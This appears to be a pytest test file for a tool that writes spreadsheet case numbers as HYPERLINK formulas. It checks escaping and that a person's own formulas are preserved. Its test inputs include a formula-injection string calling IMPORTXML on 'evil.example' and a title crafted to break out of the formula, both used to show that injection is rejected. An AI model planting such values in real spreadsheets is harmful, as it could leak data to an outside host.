"""A case's number as a link: which formula is written, and which are read as ours."""

from __future__ import annotations

import io
from dataclasses import replace
from pathlib import Path
from zipfile import ZipFile
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from sheetdesk.columns import CASE_LINK, CASES, TODO
from sheetdesk.model.sheet import CellWrite, Difference, NewRow, Stamp, TabView
from sheetdesk.model.values import Formula, Value
from sheetdesk.workbook.case_links import Target, as_link, file_target, google_target
from sheetdesk.workbook.cells import read_cell
from sheetdesk.workbook.xlsx import XlsxWorkbook
from sheetdesk.workbook.xlsx_layout import set_up

TAIPEI = ZoneInfo("Asia/Taipei")
NUMBER, OTHER = "GB2611-0042-K", "GB2611-0043-I"
STAMP = Stamp("ledger", "server", 1)


def view(title: str = "案件", header: tuple[str | None, ...] = ("number", "summary")) -> TabView:
    return TabView(CASES.key, title, header, 1, ())


def link(value: Value, target: Target) -> Value:
    return as_link(TODO.key, "case", value, target)


def test_on_google_a_tap_leads_to_the_row_where_the_number_stands_by_then() -> None:
    formula = '=HYPERLINK("#gid=7&range=A"&IFNA(MATCH("GB2611-0042-K",\'案件\'!$A:$A,0),1),"GB2611-0042-K")'
    assert link(NUMBER, google_target(view(), 7)) == Formula(formula)


def test_in_a_file_a_tap_leads_there_by_the_title_of_the_tab() -> None:
    formula = '=HYPERLINK("#\'案件\'!A"&IFERROR(MATCH("GB2611-0042-K",\'案件\'!$A:$A,0),1),"GB2611-0042-K")'
    assert link(NUMBER, file_target(view())) == Formula(formula)


def test_a_column_that_people_moved_and_a_tab_that_they_renamed_are_followed() -> None:
    moved = link(NUMBER, google_target(view('王\'s "案"', ("我的", None, "number")), 7))
    assert moved == Formula(
        '=HYPERLINK("#gid=7&range=C"&IFNA(MATCH("GB2611-0042-K",\'王\'\'s "案"\'!$C:$C,0),1),"GB2611-0042-K")'
    )


@pytest.mark.parametrize("title", ["案件", '王\'s "案"', 'a),1),"X1-1-A")&("'])
@pytest.mark.parametrize("make", [lambda cases: google_target(cases, 0), file_target])
def test_every_link_of_ours_is_read_as_its_number(make: type[Target], title: str) -> None:
    written = link(NUMBER, make(view(title)))  # type: ignore[call-arg, arg-type]
    assert isinstance(written, Formula)
    assert read_cell(written, CASE_LINK, TAIPEI) == NUMBER
    assert read_cell(written.text, CASE_LINK, TAIPEI) == NUMBER, "in a cell of text Google may show the formula"
    assert read_cell(written, "text", TAIPEI) == written, "in any other column it is a person's"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "王怡君等 8 件",
        '"&IMPORTXML("http://evil.example")&"',
        'GB2611-0042-K")',
        "GB2611-0042-K\n",
        "ＧＢ2611-0042-K",
        "=GB2611-0042-K",
    ],
)
def test_text_that_is_no_case_number_never_gets_into_a_formula(text: str) -> None:
    assert link(text, google_target(view(), 7)) == text


@pytest.mark.parametrize(
    "formula",
    [
        "=A2",
        '=HYPERLINK("https://example.com","GB2611-0042-K")',
        '=HYPERLINK("#gid=7&range=A"&IFNA(MATCH("GB2611-0042-K",\'案件\'!$A:$A,0),1),"GB2611-0043-I")',
        '=HYPERLINK("#gid=7&range=A"&IFNA(MATCH("GB2611-0042-K",\'案件\'!$A:$A,0),1),"GB2611-0042-K")&A2',
    ],
)
def test_a_persons_own_formula_stays_hers(formula: str) -> None:
    assert read_cell(Formula(formula), CASE_LINK, TAIPEI) == Formula(formula)


def test_only_the_columns_of_links_bear_them() -> None:
    target = file_target(view())
    assert as_link(CASES.key, "number", NUMBER, target) == as_link("log", "case", NUMBER, target) == NUMBER
    assert as_link(TODO.key, "客人自己的欄", NUMBER, target) == NUMBER
    assert link(None, target) is None


@pytest.fixture
def book(tmp_path: Path) -> XlsxWorkbook:
    set_up(tmp_path / "desk.xlsx", TAIPEI, {})
    return XlsxWorkbook(tmp_path / "desk.xlsx", TAIPEI)


def insert(book: XlsxWorkbook, batch: int, **numbers: str) -> None:
    rows = tuple(NewRow(TODO.key, place[1:], {"place": place[1:], "case": n}) for place, n in numbers.items())
    book.apply(Difference(batch, replace(STAMP, batch=batch), inserts=rows), book.read())


def formulas(book: XlsxWorkbook) -> list[str]:
    sheet = load_workbook(book.path)[TODO.title]
    return [str(sheet.cell(row, 3).value) for row in range(2, sheet.max_row + 1)]


def test_the_file_holds_the_link_with_what_it_shows_and_is_read_as_the_number(book: XlsxWorkbook) -> None:
    insert(book, 1, p0=NUMBER)
    shown = load_workbook(book.path, data_only=True)[TODO.title]["C2"]
    assert (shown.value, shown.data_type, shown.number_format) == (NUMBER, "s", "General")
    assert formulas(book) == [str(getattr(link(NUMBER, file_target(view())), "text", ""))]
    assert [row.get("case") for row in book.read().tabs[TODO.key].rows] == [NUMBER]
    assert [row.get("case") for row in XlsxWorkbook(book.path, TAIPEI).read().tabs[TODO.key].rows] == [NUMBER]
    sheets = ZipFile(io.BytesIO(book.path.read_bytes()))
    assert b"<f>HYPERLINK(" in b"".join(sheets.read(name) for name in sheets.namelist() if "worksheets/" in name)


def test_a_link_is_written_over_by_the_next_one_and_by_none(book: XlsxWorkbook) -> None:
    insert(book, 1, p0=NUMBER, p1=NUMBER)
    wanted: dict[int, Value] = {2: OTHER, 3: None}
    writes = tuple(
        CellWrite(TODO.key, place, str(place - 2), "case", 2, NUMBER, value) for place, value in wanted.items()
    )
    was: dict[tuple[str, int], dict[str, Value]] = {(TODO.key, place): {} for place in wanted}
    book.apply(Difference(2, replace(STAMP, batch=2), writes, was=was), book.read())
    assert [row.get("case") for row in book.read().tabs[TODO.key].rows] == [OTHER, None]


def test_a_persons_formula_in_that_column_is_not_written_over(book: XlsxWorkbook) -> None:
    insert(book, 1, p0=NUMBER)
    theirs = load_workbook(book.path)
    theirs[TODO.title]["C2"] = '="GB"&A2'
    theirs.save(book.path)
    write = CellWrite(TODO.key, 2, "0", "case", 2, NUMBER, OTHER)
    book.apply(Difference(2, replace(STAMP, batch=2), (write,), was={(TODO.key, 2): {}}), book.read())
    assert formulas(book) == ['="GB"&A2']


def test_after_the_tab_was_renamed_the_next_write_renews_the_links_that_stand(book: XlsxWorkbook) -> None:
    insert(book, 1, p0=NUMBER)
    theirs = load_workbook(book.path)
    theirs[CASES.title].title = "客訴"
    theirs.save(book.path)
    insert(book, 2, p1=OTHER)
    target = file_target(view("客訴"))
    assert formulas(book) == [str(getattr(link(number, target), "text", "")) for number in (NUMBER, OTHER)]
